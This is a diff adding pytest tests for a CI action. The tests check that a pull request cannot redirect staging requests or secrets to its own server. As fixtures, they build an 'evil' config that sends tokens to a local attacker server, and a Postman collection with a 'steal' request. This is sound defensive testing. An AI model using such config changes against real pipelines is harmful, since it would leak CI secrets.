@@ -1,0 +1,111 @@
+"""Trust boundaries: a pull request's head decides nothing about where requests and secrets go."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from satori_ci.demo import DemoBookshop, example_specs
+from satori_ci.demo_staging import Canned, StagingServer
+from tests.action.conftest import PR, ROOT, SPEC, PullRequest, git
+from tests.servers.github_server import FakeGitHub
+
+SECRET = "staging-secret-4d1f"
+RUNTIME = "actions-runtime-9a7c"
+
+
+def _config(url: str, header_var: str, extra: str = "") -> str:
+    return (f"specs:\n  - path: {SPEC}\n    staging:\n      url: {url}\n      headers:\n"
+            f"        Authorization: {header_var}\n{extra}")
+
+
+@pytest.fixture
+def servers() -> Iterator[tuple[StagingServer, StagingServer]]:
+    with StagingServer() as staging, StagingServer() as attacker:
+        DemoBookshop(staging)
+        attacker.route("GET", "/books", lambda r, p: Canned({"books": []}))
+        attacker.route("GET", "/books/{isbn}", lambda r, p: Canned({}))
+        yield staging, attacker
+
+
+def _pull_request(tmp_path: Path, base_config: str, head_config: str, github: FakeGitHub,
+                  head_files: dict[str, str] | None = None) -> PullRequest:
+    repo = tmp_path / "repo"
+    (repo / "api").mkdir(parents=True)
+    v1, v2 = example_specs()
+    git(repo, "init", "-q", "-b", "main")
+    git(repo, "config", "user.email", "ci@example.invalid")
+    git(repo, "config", "user.name", "ci")
+    shutil.copy(v1, repo / SPEC)
+    (repo / ".satori.yml").write_text(base_config, encoding="utf-8")
+    subprocess.run([sys.executable, "-m", "satori_ci", "infer", SPEC, "--quiet"], cwd=repo, check=True,
+                   env={**os.environ, "PYTHONPATH": str(ROOT)})
+    git(repo, "add", ".")
+    git(repo, "commit", "-q", "-m", "v1")
+    base = git(repo, "rev-parse", "HEAD")
+    shutil.copy(v2, repo / SPEC)
+    (repo / ".satori.yml").write_text(head_config, encoding="utf-8")
+    for name, text in (head_files or {}).items():
+        (repo / name).parent.mkdir(parents=True, exist_ok=True)
+        (repo / name).write_text(text, encoding="utf-8")
+    git(repo, "add", ".")
+    git(repo, "commit", "-q", "-m", "v2")
+    return PullRequest(repo, base, git(repo, "rev-parse", "HEAD"), tmp_path, github)
+
+
+def test_a_pull_request_cannot_send_the_staging_secrets_to_its_own_server(
+        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
+    staging, attacker = servers
+    evil = _config(attacker.base_url, "ACTIONS_RUNTIME_TOKEN",
+                   "    requests:\n      unsafe: [\"POST /orders\"]\n      values: {isbn: '1'}\n")
+    with FakeGitHub(login=None) as github:
+        pr = _pull_request(tmp_path, _config(staging.base_url, "STAGING_TOKEN"), evil, github)
+        run = pr.run(inputs={"runner": "native"},
+                     extra_env={"STAGING_TOKEN": SECRET, "ACTIONS_RUNTIME_TOKEN": RUNTIME})
+        comments = github.comments_on(PR)
+    assert attacker.received == [], [r.target for r in attacker.received]
+    assert staging.received and all(r.headers.get("Authorization") == SECRET for r in staging.received)
+    assert all(r.method == "GET" for r in staging.received)
+    (comment,) = comments
+    shown = comment.body.replace("\\", "")  # Markdown escapes of [ ] _
+    assert "> [!WARNING]" in comment.body
+    assert "This pull request changes where requests and secrets go (specs[].staging.url, " \
+           "specs[].staging.headers, specs[].requests.unsafe, specs[].requests.values" in shown
+    assert "the change applies after merge" in shown
+    assert "::warning::satori-ci: api/openapi.yaml: This pull request changes where requests" in run.stdout
+    for text in (run.stdout, run.stderr, run.summary, comment.body):
+        assert SECRET not in text and RUNTIME not in text
+
+
+def test_a_team_collection_added_by_the_pull_request_is_not_run(
+        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
+    staging, attacker = servers
+    collection = ('{"info": {"name": "x", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/'
+                  'collection.json"}, "item": [{"name": "steal", "request": {"method": "GET", "url": "'
+                  + attacker.base_url + '/books"}}]}')
+    head = _config(staging.base_url, "STAGING_TOKEN", "    requests:\n      collection: postman/c.json\n")
+    with FakeGitHub(login=None) as github:
+        pr = _pull_request(tmp_path, _config(staging.base_url, "STAGING_TOKEN"), head, github,
+                           {"postman/c.json": collection})
+        run = pr.run(inputs={"runner": "native"}, extra_env={"STAGING_TOKEN": SECRET})
+        (comment,) = github.comments_on(PR)
+    assert attacker.received == []
+    assert "specs[].requests.collection" in comment.body.replace("\\", "")
+    assert run.code == 1  # the bookshop's planted violations, found with the base branch's settings
+
+
+def test_on_push_the_checked_out_config_is_the_trusted_one(
+        tmp_path: Path, servers: tuple[StagingServer, StagingServer]) -> None:
+    staging, _ = servers
+    with FakeGitHub(login=None) as github:
+        pr = _pull_request(tmp_path, _config("http://127.0.0.1:9", "STAGING_TOKEN"),
+                           _config(staging.base_url, "STAGING_TOKEN"), github)
+        run = pr.run(inputs={"runner": "native"}, event="push", extra_env={"STAGING_TOKEN": SECRET})
+    assert staging.received, run.stdout  # merged to main: its config is the project's
+    assert "changes where requests and secrets go" not in run.stdout
